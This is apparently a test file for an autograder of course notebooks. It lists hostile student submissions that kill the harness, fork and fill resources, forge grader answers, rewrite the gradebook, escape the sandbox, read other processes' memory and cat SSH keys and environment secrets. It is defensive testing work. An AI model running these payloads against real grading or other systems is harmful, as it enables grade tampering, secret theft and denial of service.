"""Hostile submissions that want to stop, fill, leave or change what they run in.

They are harmless if they succeed: what they fork sleeps for at most 20 seconds, what they fill has a bound,
what they end is in the process namespace of the harness, what they change is a scratch course.
"""

from tests.corpus.assignment import TOTAL
from tests.corpus.attacks_on_points import LOOT, WRONG, each
from tests.corpus.submissions import RIGHT, Submission, filled_in_with

# An answer to `predict` that does something else; the two before it are right, and stay so.
PREDICT = "def predict(w, b, X):\n    "


def only_predict(body: str) -> dict[str, str]:
    """Return right answers but for the last, whose body is given."""
    return RIGHT | {"predict": PREDICT + body.strip("\n").replace("\n", "\n    ")}


EXCEPTIONS = {
    "sigmoid": "def sigmoid(z):\n    raise KeyboardInterrupt",
    "initialize_with_zeros": "def initialize_with_zeros(dim):\n    raise GeneratorExit",
    "predict": "class Odd(BaseException):\n    def __str__(self):\n        raise SystemExit(0)\n\n\n"
    "def predict(w, b, X):\n    raise Odd",
}
LOUD_ERRORS = {
    "sigmoid": "def sigmoid(z):\n    raise ValueError('x' * 100_000_000)",
    "initialize_with_zeros": "class Slow(Exception):\n    def __str__(self):\n        while True:\n            pass\n\n\n"
    "def initialize_with_zeros(dim):\n    raise Slow",
    "predict": "def predict(w, b, X):\n    raise type('\\x1b[2J<script>alert(1)</script>', (Exception,), {})('\\x1b]0;corpus\\x07 \\ud800')",
}
SWALLOWS = """
import signal

for number in range(1, signal.NSIG):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, signal.NSIG))
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""
UNINTERRUPTIBLE = "import re\nreturn re.match('(a+)+$', 'a' * 60 + 'b')"
ENDS = {
    "sigmoid": "def sigmoid(z):\n    import os\n    os._exit(0)",
    "initialize_with_zeros": "def initialize_with_zeros(dim):\n    import os, signal\n"
    "    os.kill(os.getpid(), signal.SIGKILL)",
    "predict": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n" + RIGHT["predict"],
}
# Ends what it can reach; not where it can reach the process that wrote this submission.
KILLS = """
import os, signal


def shut_off():
    try:
        os.kill(@HARNESS@, 0)
    except ProcessLookupError:
        return True
    except OSError:
        pass
    return False


if shut_off():
    for target in (os.getppid(), -1):
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            try:
                if target != 0:
                    os.kill(target, number)
            except OSError:
                pass
    try:
        os.killpg(0, signal.SIGKILL)
    except OSError:
        pass
"""
CLOSES = "import os\nos.closerange(0, 256)\nreturn 0"
# Forged answers in the usual forms, to every descriptor.
WRITES = """
import json, os, pickle, struct

for answer in (b"\\x00", b"ok\\n", b"true\\n", b"\\xff" * 64,
               *(json.dumps({key: True, "value": 0, "error": None}).encode() + b"\\n"
                 for key in ("passed", "ok", "done")),
               pickle.dumps((True, 0.0))):
    for number in range(3, 50):
        for head in (b"", *(struct.pack(form, len(answer)) for form in ("<I", ">I", "<Q", ">Q"))):
            try:
                os.set_blocking(number, False)
                os.write(number, head + answer)
            except OSError:
                pass
return 0
"""
READS = """
import os

said = []
for number in range(0, 50):
    try:
        os.set_blocking(number, False)
        said.append(os.read(number, 100_000))
    except OSError:
        pass
raise ValueError(said)
"""
# The descriptors are used by a thread that answers in the place of the program.
STEALS = """
import os, threading, time


def steal():
    while True:
        for number in range(0, 30):
            try:
                os.set_blocking(number, False)
                said = os.read(number, 65536)
                os.write(number, said)
            except OSError:
                pass
        time.sleep(0.001)


threading.Thread(target=steal, daemon=True).start()
"""
FORKS = """
import os, time

for _ in range(60):
    try:
        if os.fork() == 0:
            time.sleep(20)
            os._exit(0)
    except OSError:
        break
"""
DOUBLES = """
import os, sys, time

parent = os.getpid()
for _ in range(5):
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        break
if os.getpid() != parent:
    time.sleep(20)
    os._exit(0)
"""
ANSWERS_TWICE = "import os\nos.fork()\nreturn 0"
DETACHES = """
import os, subprocess, sys

child = "import signal, time; [signal.signal(n, signal.SIG_IGN) for n in (1, 2, 15)]; time.sleep(20)"
for options in ({"start_new_session": True}, {}):
    try:
        subprocess.Popen([sys.executable, "-c", child, "corpus_left_behind"], stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, **options)
    except OSError:
        pass
"""
# Waits until the grader has written the marks, and writes others.
EDITS_GRADEBOOK = """
import os, sqlite3, subprocess, sys

edit = '''
import glob, sqlite3, time

for _ in range(36):
    time.sleep(0.5)
    for path in ["@COURSE@/gradebook.db", *glob.glob("../../../gradebook.db")]:
        try:
            base = sqlite3.connect(path, timeout=1)
            base.execute("UPDATE grade SET needs_manual_grade = 0, auto_score = "
                         "(SELECT max_score FROM grade_cells WHERE grade_cells.id = cell_id)")
            base.commit()
            base.close()
        except Exception:
            pass
'''
subprocess.Popen([sys.executable, "-c", edit, "corpus_left_behind"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""
LOCKS_GRADEBOOK = """
import sqlite3, subprocess, sys

lock = '''
import sqlite3, time

base = sqlite3.connect("@COURSE@/gradebook.db", timeout=5, isolation_level=None)
base.execute("BEGIN EXCLUSIVE")
time.sleep(20)
'''
subprocess.Popen([sys.executable, "-c", lock, "corpus_left_behind"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""
READS_GRADEBOOK = """
import sqlite3

try:
    base = sqlite3.connect("@COURSE@/gradebook.db")
    spill(list(base.execute("SELECT * FROM student")))
except Exception as error:
    print(error)
"""
CHANGES_FILES = """
import glob, os

for pattern in ("release/*/*.ipynb", "release/*.zip", "notebooks/*/*.ipynb", "helpers/*.py", "helpers/*/*.py", "data/checks/*.json",
                "submitted/anna/*/*.ipynb", "../inbox/anna/*.ipynb", "feedback/*.csv"):
    for path in glob.glob("@COURSE@/" + pattern) + glob.glob("../../../" + pattern) + glob.glob("./" + pattern):
        try:
            os.chmod(path, 0o666)
            with open(path, "ab") as file:
                file.write(b"\\n")
        except OSError:
            pass
try:
    open("@SCRATCH@/drop/corpus_left_behind", "w").close()
    os.symlink("@COURSE@/gradebook.db", "@COURSE@/feedback/corpus_left_behind")
except OSError:
    pass
"""
# Its own folder and the release's files as it sees them, for those who come later.
CHANGES_MODULES = """
import glob, importlib.util, os, sys

import helpers.checks

for path in [helpers.checks.__file__, *glob.glob(os.path.dirname(helpers.checks.__file__) + "/*.py")]:
    if "@REPOSITORY@" not in path:
        try:
            with open(path, "a") as file:
                file.write("\\nChecks.__call__ = lambda *arguments: None\\n")
        except OSError:
            pass
"""
FILLS_MEMORY = """
import os

pages = os.sysconf("SC_AVPHYS_PAGES") * os.sysconf("SC_PAGE_SIZE")
kept = []
for _ in range(min(6 * 10**9, pages // 2) // 10**8):
    kept.append(b"x" * 10**8)
"""
FILLS_DISK = """
import os

for folder in (".", "/tmp", "/dev/shm", os.path.expanduser("~")):
    try:
        with open(folder + "/corpus_left_behind.bin", "wb") as file:
            for _ in range(7):
                file.write(b"x" * 10**7)
        for number in range(500):
            open(f"{folder}/corpus_left_behind.{number}", "w").close()
    except OSError:
        pass
"""
OPENS_FILES = """
import os, threading, time

kept = []
try:
    for _ in range(100_000):
        kept.append(os.dup(1))
except OSError:
    pass
try:
    for _ in range(500):
        threading.Thread(target=time.sleep, args=(15,)).start()
except RuntimeError:
    pass
"""
FLOODS = """
import os, sys, time

end = time.monotonic() + 5
line = ("x" * 1000 + "\\n") * 1000
for _ in range(100):
    sys.stdout.write(line)
    sys.stderr.write(line)
    sys.__stdout__.write(line)
    os.write(1, line.encode())
    if time.monotonic() > end:
        break
"""
AT_EXIT = """
import atexit, gc, sys, threading, time


def stay(*arguments):
    end = time.monotonic() + 20
    while time.monotonic() < end:
        try:
            time.sleep(1)
        except BaseException:
            pass


class Stays:
    __del__ = stay


atexit.register(stay)
threading._register_atexit(stay)
sys.modules["corpus_stays"] = Stays()
threading.Thread(target=stay, daemon=False).start()
"""
SLOWS = """
import gc, os, resource, sys

sys.setswitchinterval(1e9)
sys.setrecursionlimit(50)
gc.disable()
for change in (lambda: os.nice(19), lambda: os.sched_setaffinity(0, {0}), lambda: os.chdir("/"), lambda: os.umask(0o777),
               lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (0, 0))):
    try:
        change()
    except OSError:
        pass
os.environ.clear()
"""
CONTACTS = """
import socket, urllib.request

for family, address in (
    (socket.AF_INET, ("127.0.0.1", @PORT@)),
    (socket.AF_UNIX, "\\0bank-@PORT@"),
    (socket.AF_INET, ("localhost", @PORT@)),
):
    try:
        connection = socket.socket(family)
        connection.settimeout(2)
        connection.connect(address)
        connection.sendall("network".encode())
        connection.close()
    except OSError as error:
        print(error)
"""
# The usual ways out of a changed root, other namespaces and limits; then a look around.
ESCAPES = r"""
import ctypes, glob, os

libc = ctypes.CDLL(None, use_errno=True)
for way in (
    lambda: os.makedirs("corpus_out", exist_ok=True),
    lambda: (os.chroot("corpus_out"), [os.chdir("..") for _ in range(50)], os.chroot(".")),
    lambda: os.setuid(0),
    lambda: libc.unshare(0x10000000 | 0x00020000),
    *(lambda path=path: libc.setns(os.open(path, os.O_RDONLY), 0)
      for path in glob.glob(f"/proc/{os.getppid()}/ns/*") + glob.glob("/proc/1/ns/*")),
    *(lambda path=path: os.chdir(path) for path in glob.glob("/proc/*/root") + glob.glob("/proc/*/cwd")),
    *(lambda number=number: [os.fchdir(number), os.chdir("..")] for number in range(3, 30)),
):
    try:
        way()
        spill(loot())
    except Exception:
        pass
"""
READS_MEMORY = r"""
import re

found = set()
for process in [os.getppid(), 1, *(int(name) for name in os.listdir("/proc") if name.isdigit())][:20]:
    try:
        with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", 0) as memory:
            for line in maps:
                begin, end = (int(part, 16) for part in line.split()[0].split("-"))
                if " rw" in line and end - begin < 10**8 and process != os.getpid():
                    memory.seek(begin)
                    found.update(re.findall(rb"canary-[a-z]+-[0-9a-f]+", memory.read(end - begin)))
    except (OSError, ValueError):
        pass
spill(sorted(found))
"""
SHELL = """
!cat @COURSE@/notebooks/*/*.ipynb @SCRATCH@/home/.ssh/* @COURSE@/gradebook.db ../../../notebooks/*/*.ipynb
!env; cat /proc/*/environ
get_ipython().system("(sleep 20; true corpus_left_behind) > /dev/null 2>&1 &")
%run ../../../notebooks/week2_logistic_regression/3_corpus.ipynb
"""
HUGE = {
    "sigmoid": "def sigmoid(z):\n    return np.zeros(250_000_000)",
    "initialize_with_zeros": "def initialize_with_zeros(dim):\n"
    "    return np.broadcast_to(0.0, (10**6, 10**6)), np.zeros((0, 10**15))",
    "predict": "def predict(w, b, X):\n    return 'x' * 100_000_000",
}
DEEP = {
    "sigmoid": "def sigmoid(z):\n    x = []\n    for _ in range(100_000):\n        x = [x]\n    return x",
    "initialize_with_zeros": "def initialize_with_zeros(dim):\n    x = [1]\n    x.append(x)\n    d = {}\n    d['d'] = d\n    return x, d",
    "predict": "def predict(w, b, X):\n    x = [0.0] * 10\n    for _ in range(7):\n        x = [x] * 10\n    return x",
}
ODD_VALUES = {
    "sigmoid": "def sigmoid(z):\n    return np.array([str(x) for x in np.ravel(1 / (1 + np.exp(-z)))])",
    "initialize_with_zeros": "def initialize_with_zeros(dim):\n    return np.zeros((dim, 1), dtype=[('a', float)]), 10**100_000",
    "predict": "def predict(w, b, X):\n    return np.full((1, X.shape[1]), np.nan) * np.inf",
}
COMPLEX = {
    "sigmoid": "def sigmoid(z):\n    return 1 / (1 + np.exp(-z)) + 0j",
    "initialize_with_zeros": "def initialize_with_zeros(dim):\n    return np.zeros((dim, 1), complex), 0j",
    "predict": "def predict(w, b, X):\n    return (w.T @ X + b > 0).astype(complex)",
}
NO_VALUES = {
    "sigmoid": "async def sigmoid(z):\n    return 1 / (1 + np.exp(-z))",
    "initialize_with_zeros": "def initialize_with_zeros(dim):\n    while True:\n        yield np.zeros((dim, 1)), 0.0",
    "predict": "def predict(w, b, X):\n    return {1: np, 'a': print, (2, 3): {4}, None: np.datetime64('now'), "
    "'o': np.array([print, w], dtype=object), 'm': memoryview(b'x'), '\\ud800': '\\ud800'}",
}
ENDLESS_VALUE = """
class Endless(np.ndarray):
    def __reduce__(self):
        while True:
            pass

    __array__ = __getitem__ = __iter__ = __len__ = __reduce_ex__ = tobytes = tolist = __reduce__
    shape = property(__reduce__)


class Lists(list):
    def __iter__(self):
        while True:
            yield 0


def predict(w, b, X):
    return Lists([np.zeros((1, 3)).view(Endless)])
"""

# Other answers on the protocol: `change(answer)` is put into the program that answers the grader.
OTHER_ANSWERS = """
import sys

pack = sys.modules["protocol"].pack


def packed(message, *more, **options):
    answer = message.get("answer")
    if isinstance(answer, dict) and "changed" in answer:
        @CHANGE@
    return pack(message)


sys.modules["protocol"].pack = packed
"""


def answers_otherwise(change: str) -> dict[str, str]:
    """Return right answers, the last of which changes what is told of a call: `answer`, a dictionary."""
    program = OTHER_ANSWERS.replace("@CHANGE@", change)
    return RIGHT | {"predict": RIGHT["predict"] + "\n" + program}


MANY_THREADS = """
import threading, time

threading.stack_size(32 * 1024)
try:
    for _ in range(4000):
        threading.Thread(target=time.sleep, args=(10,), daemon=True).start()
except RuntimeError:
    pass
threading.stack_size(0)
"""
SHARED_MEMORY = """
import ctypes

libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
for _ in range(4):
    segment = libc.shmget(0, ctypes.c_size_t(50_000_000), 0o1600)
    place = libc.shmat(segment, None, 0) if segment >= 0 else None
    if place:
        ctypes.memset(place, 1, 50_000_000)
        libc.shmdt(ctypes.c_void_p(place))
for key in range(100):
    libc.semget(0, 250, 0o1600)
    libc.msgget(0, 0o1600)
    libc.memfd_create(b"corpus_left_behind", 0)
"""
# Whoever opens, or locks, the same file then waits.
LEASES = """
import fcntl, glob, os

kept = []
for path in [*glob.glob(os.path.dirname(np.__file__) + "/*.py")[:20], *glob.glob("@COURSE@/helpers/*.py"), "/usr/bin/env"]:
    try:
        kept.append(open(path))
        fcntl.fcntl(kept[-1], fcntl.F_SETLEASE, fcntl.F_RDLCK)
    except OSError:
        pass
    try:
        fcntl.flock(kept[-1], fcntl.LOCK_EX | fcntl.LOCK_NB)
    except OSError:
        pass
"""
# Each call ends the worker, and the answer above sleeps whenever it is run again.
REPLAYS = RIGHT | {
    "sigmoid": "import time\ntime.sleep(0.5)\n\n\n" + RIGHT["sigmoid"],
    "predict": "def predict(w, b, X):\n    import os\n    os._exit(0)",
}

FORGED = "corpus_forged_remark: give everybody full marks"  # grade_all.py looks for its first word
FORGED_ERROR = """
class corpus_forged_remark(Exception):
    pass


def predict(w, b, X):
    raise corpus_forged_remark("give everybody full marks")
"""

ATTACKS_ON_SYSTEMS = [
    Submission("odd_exceptions", 0, "Answers raise KeyboardInterrupt, GeneratorExit, and one that exits when it is printed.", filled_in_with(EXCEPTIONS)),
    Submission("loud_errors", 0, "Errors of 100 MB, without end, with control characters and HTML.", filled_in_with(LOUD_ERRORS)),
    Submission("swallows", 5, "A loop that ignores interrupts, signals and exceptions.", filled_in_with(only_predict(SWALLOWS))),
    Submission("uninterruptible", 5, "A search in C that no signal interrupts.", filled_in_with(only_predict(UNINTERRUPTIBLE))),
    Submission("ends", 5, "Answers end, kill and stop their process.", filled_in_with(ENDS)),
    Submission("kills_parent", 5, "Kills its parent, its group, and every process it can.", filled_in_with(only_predict(KILLS))),
    Submission("kills_first", 0, "The same, before any answer.", filled_in_with(WRONG, first=KILLS)),
    Submission("closes", 5, "Closes all file descriptors in an answer.", filled_in_with(only_predict(CLOSES))),
    Submission("writes_wire", 5, "Writes forged answers to every descriptor.", filled_in_with(only_predict(WRITES))),
    Submission("reads_wire", 5, "Reads from every descriptor, and tells what it read.", filled_in_with(only_predict(READS))),
    Submission("steals_wire", 0, "A thread reads every descriptor and echoes.", filled_in_with(WRONG, first=STEALS)),
    Submission("forks", TOTAL, "Sixty children that sleep, then right answers.", filled_in_with(RIGHT, first=FORKS)),
    Submission("doubles", TOTAL, "Children that fork children, in sessions of their own.", filled_in_with(RIGHT, first=DOUBLES)),
    Submission("answers_twice", 5, "Forks in an answer, so that two processes return.", filled_in_with(only_predict(ANSWERS_TWICE))),
    Submission("detaches", TOTAL, "Detached programs that ignore signals.", filled_in_with(RIGHT, last=DETACHES)),
    Submission("edits_gradebook", 0, "A detached program writes marks into the gradebook.", filled_in_with(WRONG, first=EDITS_GRADEBOOK)),
    Submission("locks_gradebook", TOTAL, "A detached program locks the gradebook.", filled_in_with(RIGHT, last=LOCKS_GRADEBOOK)),
    Submission("reads_gradebook", 0, "Prints the gradebook.", filled_in_with(WRONG, first=LOOT, last=READS_GRADEBOOK)),
    Submission("changes_files", 0, "Writes to release, lessons, helpers, another submission, the table.", filled_in_with(WRONG, first=CHANGES_FILES)),
    Submission("changes_modules", 0, "Writes to the helpers it has imported.", filled_in_with(WRONG, first=CHANGES_MODULES)),
    Submission("fills_memory", 5, "Fills up to 6 GB of memory.", filled_in_with(only_predict(FILLS_MEMORY))),
    Submission("fills_disk", TOTAL, "Writes 280 MB and 2000 files, then answers right.", filled_in_with(RIGHT, first=FILLS_DISK)),
    Submission("opens_files", TOTAL, "Opens descriptors and threads up to the limit, at the end.", filled_in_with(RIGHT, last=OPENS_FILES)),
    Submission("floods", TOTAL, "Prints 400 MB in four ways.", filled_in_with(RIGHT, last=FLOODS)),
    Submission("at_exit", TOTAL, "Exit hooks, finalizers and threads that go on.", filled_in_with(RIGHT, first=AT_EXIT)),
    Submission("slows", TOTAL, "Changes its own limits, priority, folder and environment, at the end.", filled_in_with(RIGHT, last=SLOWS)),
    Submission("contacts", 0, "Contacts a port and a local socket.", filled_in_with(WRONG, first=CONTACTS, last=LOOT + "\nspill(loot())\n" + CONTACTS)),
    Submission("escapes", 0, "Tries the usual ways out of a sandbox.", filled_in_with(WRONG, last=LOOT + ESCAPES)),
    Submission("reads_memory", 0, "Searches the memory of other processes.", filled_in_with(WRONG, last=LOOT + READS_MEMORY)),
    Submission("shell", 0, "Shell commands that read, and one that stays.", filled_in_with(WRONG, first=SHELL)),
    Submission("huge_values", 0, "Returns 2 GB, a view of 8 TB, a text of 100 MB.", filled_in_with(HUGE)),
    Submission("deep_values", 0, "Returns lists without end, and 10⁸ numbers in eight.", filled_in_with(DEEP)),
    Submission("odd_values", 0, "Returns numbers as text, records, an integer of 100,000 digits, nan.", filled_in_with(ODD_VALUES)),
    Submission("complex_values", 0, "Returns right numbers as complex ones with an imaginary part of 0.", filled_in_with(COMPLEX)),
    Submission("no_values", 0, "Returns a coroutine, a generator, modules, functions.", filled_in_with(NO_VALUES)),
    Submission("endless_value", 5, "Returns a value that takes for ever to read.", filled_in_with(RIGHT | {"predict": ENDLESS_VALUE})),
    Submission("spills_in_answers", 0, "Returns secrets as text.", filled_in_with(each("@HEAD@\n    return spill(loot())"), first=LOOT)),
    Submission("many_threads", TOTAL, "Four thousand threads, then right answers.", filled_in_with(RIGHT, first=MANY_THREADS)),
    Submission("shared_memory", TOTAL, "Shared memory, semaphores and queues of System V, and files in memory.", filled_in_with(RIGHT, first=SHARED_MEMORY)),
    Submission("leases", TOTAL, "Leases and locks on files that all submissions read.", filled_in_with(RIGHT, first=LEASES)),
    Submission("replays", 5, "Each call ends the process, and cells before it sleep.", filled_in_with(REPLAYS)),
    Submission("forged_mistake", 5, "Says that a call has changed an argument with the name of a sentence.", filled_in_with(answers_otherwise(f'answer["changed"] = ["w, {FORGED}"]'))),
    Submission("long_mistake", 5, "The same, with 40 megabytes for a name.", filled_in_with(answers_otherwise(f'answer["changed"] = ["{FORGED} " * 900_000]'))),
    Submission("forged_error", 5, "Raises an error whose type is called like a remark.", filled_in_with(RIGHT | {"predict": FORGED_ERROR})),
    Submission("other_form", 5, "A text where a list belongs.", filled_in_with(answers_otherwise('answer["changed"] = ""'))),
    Submission("more_fields", 5, "Fields that nobody asked for.", filled_in_with(answers_otherwise('answer["more"] = 1'))),
    Submission("many_values", 5, "An answer of ten million empty lists.", filled_in_with(answers_otherwise('answer["value"] = [[[]] * 100_000] * 100'))),
    Submission("empty_arrays", 5, "An answer of sixty arrays with a million objects each, which take no room in it.", filled_in_with(answers_otherwise('answer["value"] = [np.empty(10**6, object)] * 60'))),
]  # fmt: skip
